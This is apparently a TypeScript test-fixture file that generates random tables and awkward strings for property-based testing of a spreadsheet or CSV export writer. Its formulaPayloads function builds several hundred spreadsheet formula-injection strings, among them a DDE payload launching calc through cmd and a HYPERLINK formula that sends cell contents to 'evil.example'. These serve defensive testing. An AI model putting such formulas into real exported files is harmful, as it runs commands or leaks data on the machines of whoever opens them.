import fc from 'fast-check';
import {
  dateText,
  doubleText,
  timestampText,
  unscaledText,
} from '../../../../src/engine/value-text.ts';
import type { ShareColumn, ShareTable } from '../../../../src/share/share-table.ts';

/** Texts that break writers: controls, marks that turn the line around, quotes, line ends, starts of formulas. */
export const anyText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 6 }),
      fc.string({ unit: 'binary', maxLength: 4 }),
      fc.constantFrom(
        ...[
          '=',
          '+',
          '-',
          '@',
          '\t',
          '\r',
          '\n',
          '\r\n',
          '"',
          "'",
          '`',
          ',',
          ';',
          '|',
          '<',
          '>',
          '&',
        ],
        ...[
          '_x000D_',
          '_x005F_',
          '\\',
          '\u202e',
          '\u200f',
          '\ufeff',
          '\u2028',
          '😀',
          '会员',
          'مرحبا',
        ],
        ...['\u0000', '\u0001', '\u001f', '\u007f', '\ufffe', '<script>', '</style>', ']]>', '-->'],
        ...['*/', '--', ';', '$$', '{{', '"""', "'''", '007', '1e5', 'NULL', 'TRUE'],
      ),
    ),
    { maxLength: 5 },
  )
  .map((parts) => parts.join(''));

/** Values as the engine prints them, with the type that it says. */
const columns: readonly (readonly [type: string, value: fc.Arbitrary<string>])[] = [
  ['VARCHAR', anyText],
  ['BIGINT', fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }).map(String)],
  ['INTEGER', fc.integer().map(String)],
  ['HUGEINT', fc.bigInt({ min: -(10n ** 38n) + 1n, max: 10n ** 38n - 1n }).map(String)],
  [
    'DECIMAL(18,4)',
    fc.bigInt({ min: -(10n ** 18n) + 1n, max: 10n ** 18n - 1n }).map((n) => unscaledText(n, 4)),
  ],
  [
    'DECIMAL(38,10)',
    fc.bigInt({ min: -(10n ** 38n) + 1n, max: 10n ** 38n - 1n }).map((n) => unscaledText(n, 10)),
  ],
  ['DOUBLE', fc.double({ noNaN: true, noDefaultInfinity: true }).map(doubleText)],
  ['BOOLEAN', fc.boolean().map(String)],
  ['DATE', fc.integer({ min: -700_000, max: 2_900_000 }).map(dateText)],
  [
    'TIMESTAMP',
    fc.bigInt({ min: -60_000_000_000_000_000n, max: 250_000_000_000_000_000n }).map(timestampText),
  ],
  ['INTEGER[]', fc.array(fc.integer()).map((list) => `[${list.join(', ')}]`)],
];

export const anyTable: fc.Arbitrary<ShareTable> = fc
  .array(fc.constantFrom(...columns), { minLength: 1, maxLength: 6 })
  .chain((chosen) =>
    fc.record({
      name: anyText,
      columns: fc.constant(
        chosen.map(([type], at): ShareColumn => ({ name: `c${String(at)} ${type}`, type })),
      ),
      rows: fc.array(
        fc.tuple(...chosen.map(([, value]) => fc.option(value, { nil: null, freq: 4 }))),
        { maxLength: 12 },
      ),
    }),
  );

/** One column of texts. */
export function textTable(texts: readonly (string | null)[], name = 'texts'): ShareTable {
  return { name, columns: [{ name: 'value', type: 'VARCHAR' }], rows: texts.map((text) => [text]) };
}

/** What spreadsheets have been made to run, and what they drop before they look: 400 and some. */
export function formulaPayloads(): readonly string[] {
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
  const fronts = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u0000'];
  const bodies = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    'SUM(1+1)*cmd|x!A1',
    '1+1',
  ];
  return signs.flatMap((sign) =>
    fronts.flatMap((front) => bodies.map((body) => `${front}${sign}${body}`)),
  );
}

export async function textOf(parts: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const part of parts) text += part;
  return text;
}
